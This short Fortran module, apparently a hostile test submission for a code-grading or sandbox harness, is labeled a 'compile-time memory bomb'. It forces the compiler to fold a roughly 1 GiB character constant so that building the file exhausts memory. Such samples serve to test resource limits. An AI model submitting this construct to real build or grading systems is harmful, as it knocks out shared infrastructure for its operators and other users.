! attack: compile-time memory bomb (a 1 GiB character constant folded by the compiler)
module candidate
  use, intrinsic :: iso_fortran_env, only: int64, real64
  implicit none
  private
  public :: hostile
  character(len=*), parameter :: s1 = repeat('x', 268435456)
  character(len=*), parameter :: s2 = s1 // s1 // s1 // s1
contains
  function hostile(n) result(res)
    integer(int64), intent(in) :: n
    integer(int64) :: res
    res = n + 1 + len(s2) - 1073741824_int64 + index(s2, 'y')
  end function hostile
end module candidate
